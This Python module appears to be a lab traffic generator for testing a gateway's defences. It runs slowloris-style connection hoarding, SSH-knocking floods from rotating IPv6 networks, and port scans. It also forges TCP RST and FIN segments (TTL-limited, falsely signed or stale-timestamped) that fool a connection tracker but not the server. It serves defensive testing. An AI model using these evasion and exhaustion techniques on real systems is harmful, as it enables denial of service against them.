"""The attackers in their own name that no common tool provides, as one program.

``python -m rstguard.lab.strike hoard`` opens connections, sends the beginning of a request on each
and is silent for ever; ``… hide`` does so and hides each from the gateway's tracker; ``… brute``
knocks at port 22 again and again as a password guesser does; ``… spread`` does so from one IPv6
network after the other; ``… scan`` connects to each of ``--count`` ports once, in no order, and
writes a line for each that is open; ``… services`` does so with the usual ports of three hosts.
All end by themselves after ``--seconds``.
"""

from __future__ import annotations

import argparse
import asyncio
import socket
import sys
import time
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from functools import partial
from ipaddress import ip_network
from struct import pack

from rstguard.engine.wire import ACK, FIN, PSH, RST
from rstguard.lab.crowd import BEGUN, allow_all_files
from rstguard.lab.forging import raw_socket, segment
from rstguard.lab.topology import ATTACKERS6, HOSTED, SERVER, SERVER6

_GUESS = b"SSH-2.0-libssh_0.9\r\n"

_SIGNED = 19, bytes(16)
"""A signature (RFC 2385) that the server has no key for: it takes no such segment."""
_TIME_STAMP = 8
_CLOCK = 24
"""TCP_TIMESTAMP of linux/tcp.h: the time stamp that a socket would send now."""
_FIRST_SCANNED, _STRIDE = 8_000, 787
"""A scan's first port, and from each to the next that it tries, round the ports there are: a
prime number, so that it tries each once."""
HOSTS = tuple(str(ip_network(HOSTED)[number]) for number in (1, 2, 3))
"""Whom `services` asks."""
_MOST_USUAL = (80, 23, 443, 21, 22, 25, 3389, 110, 445, 139)
_USUAL = (*_MOST_USUAL, 143, 53, 135, 3306, 8080, 1723, 111, 995, 993, 5900)
"""The ports that are open most often, by nmap's list of services; the likeliest first."""
_CONNECTIONS_OF_EACH, _OF_ONE_48 = 5, 24
"""Of those that spread out: how often a /64 connects, and how many of them are of the same /48."""


def _short_lived(one: socket.socket) -> list[bytes]:
    """Return a RST that gets no farther than the gateway."""
    return [segment(one, RST, hops=1)]


def _unheard(one: socket.socket) -> list[bytes]:
    """Return data that gets no farther than the gateway, and a RST behind it."""
    lost = b"never read"
    return [segment(one, PSH | ACK, hops=1, payload=lost), segment(one, RST, ahead=len(lost))]


def _signed_reset(one: socket.socket) -> list[bytes]:
    return [segment(one, RST, options=(_SIGNED,))]


def _signed_end(one: socket.socket) -> list[bytes]:
    return [segment(one, FIN | ACK, options=(_SIGNED,))]


def _outdated_end(one: socket.socket) -> list[bytes]:
    """Return a FIN with a time stamp of the past, which the server refuses (RFC 7323, 5)."""
    past = (one.getsockopt(socket.IPPROTO_TCP, _CLOCK) - 1_000_000) & 0xFFFFFFFF
    return [segment(one, FIN | ACK, options=((_TIME_STAMP, pack(">II", past, 0)),))]


_TRICKS = (_short_lived, _unheard, _signed_reset, _signed_end, _outdated_end)
"""Segments that the gateway's tracker believes and the server does not."""


async def _hoard(_number: int, end: float) -> None:
    await _hold(end, None)


async def _hide(number: int, end: float) -> None:
    await _hold(end, _TRICKS[number % len(_TRICKS)])


async def _hold(end: float, trick: Callable[[socket.socket], list[bytes]] | None) -> None:
    try:
        reader, writer = await asyncio.open_connection(SERVER, 80)
    except OSError:
        return
    writer.write(BEGUN)
    try:
        if trick:
            with raw_socket() as raw:
                for made in trick(writer.get_extra_info("socket")._sock):
                    raw.sendto(made, (SERVER, 0))
        async with asyncio.timeout(end - time.monotonic()):
            await reader.read()
    except (TimeoutError, OSError):
        # Reset by whoever guards, or over: both are what this attacker reckons with.
        pass
    finally:
        writer.close()


async def _brute(_number: int, _end: float) -> None:
    await _guess(SERVER, None)


async def _spread(number: int, _end: float) -> None:
    network = number // _CONNECTIONS_OF_EACH
    wide = max(network - _OF_ONE_48, 0)
    own = ip_network(ATTACKERS6)[(wide << 80) + (network << 64) + 1]
    await _guess(SERVER6, (str(own), 0))


async def _guess(server: str, own: tuple[str, int] | None) -> None:
    try:
        async with asyncio.timeout(2):
            reader, writer = await asyncio.open_connection(server, 22, local_addr=own)
            await reader.readline()
            writer.write(_GUESS)
            writer.close()
    except (TimeoutError, OSError):
        pass  # Refused or silent: try the next one.


def _in_no_order(count: int) -> list[tuple[str, int]]:
    return [(SERVER, _FIRST_SCANNED + number * _STRIDE % count) for number in range(count)]


def _usual(_count: int) -> list[tuple[str, int]]:
    return [(host, port) for port in _USUAL for host in HOSTS]


async def _scan(number: int, end: float, targets: Sequence[tuple[str, int]]) -> None:
    host, port = targets[number]
    with suppress(TimeoutError, OSError):
        async with asyncio.timeout(end - time.monotonic()):
            _, writer = await asyncio.open_connection(host, port)
            sys.stdout.write(f"{host} {port}\n")
            sys.stdout.flush()
            writer.close()


_KINDS = {"hoard": _hoard, "hide": _hide, "brute": _brute, "spread": _spread}
_SCANS = {"scan": _in_no_order, "services": _usual}


async def _strike(
    attempt: Callable[[int, float], Awaitable[None]], *, rate: int, count: int, seconds: float
) -> None:
    begin = time.monotonic()
    end = begin + seconds
    running = []
    for number in range(count):
        running.append(asyncio.ensure_future(attempt(number, end)))
        await asyncio.sleep(max(begin + (number + 1) / rate - time.monotonic(), 0))
        if time.monotonic() >= end:
            break
    await asyncio.gather(*running)


def main() -> None:
    """Strike as the command line says."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=(*_KINDS, *_SCANS))
    parser.add_argument("--rate", type=int, required=True, help="connections a second")
    parser.add_argument("--count", type=int, default=100_000, help="connections at most")
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    allow_all_files()
    attempt, count = _KINDS.get(options.kind), options.count
    if attempt is None:
        targets = _SCANS[options.kind](count)
        attempt, count = partial(_scan, targets=targets), len(targets)
    asyncio.run(_strike(attempt, rate=options.rate, count=count, seconds=options.seconds))


if __name__ == "__main__":
    main()
